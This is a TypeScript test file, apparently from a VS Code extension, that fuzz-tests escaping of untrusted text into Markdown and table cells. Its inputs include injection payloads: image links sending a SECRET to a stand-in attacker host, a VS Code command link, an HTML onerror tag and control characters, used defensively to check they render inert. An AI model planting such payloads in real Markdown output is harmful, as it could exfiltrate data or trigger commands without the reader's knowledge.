// Words of others in Markdown: the parser that VS Code has finds nothing in them but text and code.

import assert from "node:assert/strict";
import { test } from "node:test";

import { marked } from "marked";

import { visible } from "../../src/inert";
import { inMarkdown } from "../../src/searches/markdown";

const PIECES = [
    ..."` `` \\ | \\| * ** _ ~~ [ ] ( ) ![ ]( < > </td> & &#x3c; ``` ~~~ --- === [^1] >x €.com word é 1.5 .".split(" "),
    ...[
        "# ",
        "- ",
        "1. ",
        "12) ",
        "> ",
        "    ",
        " ",
        "\t",
        "\n",
        "\n\n",
        "\r",
        "test.py",
        "mailto:",
        "[x]: https://evil.example",
    ],
    ...["command:certo.accept?x", "https://evil.example/?d=", "//evil.example", "www.evil.example", "a@evil.example"],
    ...["<img src=x onerror=y>", "<!--", "\u001b[31m", "\u202e", "\u2028", "\u0085", "\ufeff"],
];
const HARMLESS = new Set(["paragraph", "text", "codespan", "space", "escape"]);

/** Words put together from what means something to Markdown, the same at every run. */
function* hostile(count: number): Generator<string> {
    let state = 1;
    const next = (below: number): number => {
        state = (state * 1103515245 + 12345) % 2147483648;
        return Math.floor((state / 2147483648) * below);
    };
    yield "E \\` ![value](https://evil.example/?d=SECRET) `";
    yield "[Accept](command:certo.accept?x)";
    yield "a\\|b ![v](https://evil.example)";
    for (let made = 0; made < count; made++) {
        yield Array.from({ length: next(14) }, () => PIECES[next(PIECES.length)]).join("");
    }
}

function kinds(text: string): string[] {
    const found: string[] = [];
    void marked.walkTokens(marked.lexer(text, { gfm: true }), (token) => {
        found.push(token.type);
    });
    return found.filter((kind) => !HARMLESS.has(kind));
}

test("words of others are text and code, whatever they say", () => {
    for (const words of hostile(4000)) {
        const said = inMarkdown(words);
        assert.deepEqual(kinds(said), [], JSON.stringify([words, said]));
        assert.equal(said.replace(/[\s`]/gu, ""), visible(words).replace(/[\s`]/gu, ""));
    }
});

test("in a cell of a table they end neither the cell nor the row", () => {
    for (const words of hostile(4000)) {
        const table = `| a | b |\n|:--|:--|\n| ${inMarkdown(words, true)} | last |`;
        const [found, ...more] = marked.lexer(table, { gfm: true });
        assert.ok(found?.type === "table" && more.length === 0, JSON.stringify([words, table]));
        assert.deepEqual(kinds(table), ["table"], JSON.stringify([words, table]));
        const rows = found.rows as { text: string }[][];
        assert.deepEqual(
            [rows.length, rows[0]?.length, rows[0]?.[1]?.text],
            [1, 2, "last"],
            JSON.stringify([words, table]),
        );
    }
});

test("only what could be markup is set as code, as the server does it", () => {
    for (const [words, said] of [
        ["verified by 7 tests, 2 of them newly passing", "verified by 7 tests, 2 of them newly passing"],
        ["comparison `>` became `>=`, line 2", "comparison `>` became `>=`, line 2"],
        ["2 candidates in 1.5 s ($0.42)", "2 candidates in 1.5 s ($0.42)"],
        ["test_till.py::test[2-4]: assert [1, 2] == [2]", "`test_till.py::test[2-4]`: assert `[1, 2]` == `[2]`"],
        ["one (see tests/test_old.py), __init__ and f(a.b)", "one (see `tests/test_old.py`), `__init__` and `f(a.b)`"],
        ["boom ` ![value](https://e.example/?d=1)", "boom `` ` ![value](https://e.example/?d=1) ``"],
    ] as const) {
        assert.equal(inMarkdown(words), said);
    }
});
